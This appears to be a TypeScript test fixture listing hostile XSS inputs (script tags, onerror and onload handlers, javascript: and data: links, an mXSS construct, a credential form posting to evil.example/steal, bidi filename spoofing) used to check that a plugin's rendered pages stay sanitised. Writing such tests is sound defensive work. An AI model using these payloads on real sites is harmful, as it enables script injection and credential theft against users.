/**
 * Hostile inputs for the XSS tests, stored through the real sidecar and rendered by the plugin's pages:
 * the jsdom tests' answer and prompt (HOSTILE_MARKDOWN, HOSTILE_PROMPT) and the Chromium suite's
 * payloads (HOSTILE_PAYLOADS, in HOSTILE_PROMPTS and HOSTILE_ANSWER). Every construct that could run
 * would set window[PWNED_TRAP]; every link would point at evil.example.
 */

/** The window property any payload that runs would set; the tests assert it stays unset. */
export const PWNED_TRAP = '__ollamaLensXss';

/** Right-to-left override: "invoice‮fdp.exe" reads as "invoiceexe.pdf". */
export const RLO = '\u202e';

export const HOSTILE_PAYLOADS: readonly string[] = [
  `<img src=x onerror="window.${PWNED_TRAP}='img'">`,
  `<script>window.${PWNED_TRAP}='script'</script>`,
  `[click for the answer](javascript:window.${PWNED_TRAP}='js-link')`,
  `[entity](javascript&#58;window.${PWNED_TRAP}='entity')`,
  `<a href="https://evil.example/unclosed">unclosed anchor swallowing the rest`,
  `<svg onload="window.${PWNED_TRAP}='svg'"><a href="javascript:window.${PWNED_TRAP}='svg-a'"><text y="20">svg</text></a></svg>`,
  `[Open your account](https://evil.example/login "Your bank")`,
  `[![badge](https://evil.example/pixel.png)](https://evil.example/click)`,
  `<https://evil.example/autolink> and www.evil.example/bare`,
  `<iframe srcdoc="<script>parent.${PWNED_TRAP}='srcdoc'</script>"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="window.${PWNED_TRAP}='mxss'">`,
  `<details open ontoggle="window.${PWNED_TRAP}='details'"><summary>more</summary></details>`,
  `invoice${RLO}fdp.exe and \u2066isolate\u2069 \u200fmark`,
];

/** One prompt per payload would crowd the table; a few prompts carry them all. */
export const HOSTILE_PROMPTS: readonly string[] = [
  HOSTILE_PAYLOADS.slice(0, 5).join(' '),
  HOSTILE_PAYLOADS.slice(5, 10).join(' '),
  HOSTILE_PAYLOADS.slice(10).join(' '),
];

export const HOSTILE_ANSWER = [
  '# Hostile answer',
  ...HOSTILE_PAYLOADS,
  '```html\n<script>alert(1)</script>\n```',
].join('\n\n');

/** Bidi controls that must never reach rendered text. */
export const BIDI_CONTROLS = /[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

export const HOSTILE_MARKDOWN = [
  '# Hostile answer',
  `<script>window.${PWNED_TRAP} = "script"</script>`,
  `<img src="x" onerror="window.${PWNED_TRAP} = 'img'">`,
  `[click me](javascript:window.${PWNED_TRAP}='link')`,
  `[<img src=x onerror="window.${PWNED_TRAP}='markdown-html'">](https://example.com/x)`,
  `<a href="javascript:window.${PWNED_TRAP}='anchor'">raw anchor</a>`,
  `<iframe src="javascript:window.${PWNED_TRAP}='iframe'"></iframe>`,
  `<svg onload="window.${PWNED_TRAP}='svg'"><circle r="5"/></svg>`,
  `<div style="background:url(javascript:alert(1))" onclick="window.${PWNED_TRAP}='div'">styled div</div>`,
  '<form action="https://evil.example/steal"><input name="pw"></form>',
  `[mixed case](JaVaScRiPt:window.${PWNED_TRAP}='case')`,
  '[data url](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![tracking pixel](https://evil.example/pixel.png)',
  `<details open ontoggle="window.${PWNED_TRAP}='details'"><summary>more</summary>hidden</details>`,
  '[safe link](https://example.com/docs)',
  '```html\n<script>alert("inside a code block")</script>\n```',
].join('\n\n');

export const HOSTILE_PROMPT = `<script>window.${PWNED_TRAP} = "prompt"</script> Explain <img src=x onerror="window.${PWNED_TRAP}='prompt-img'"> please`;
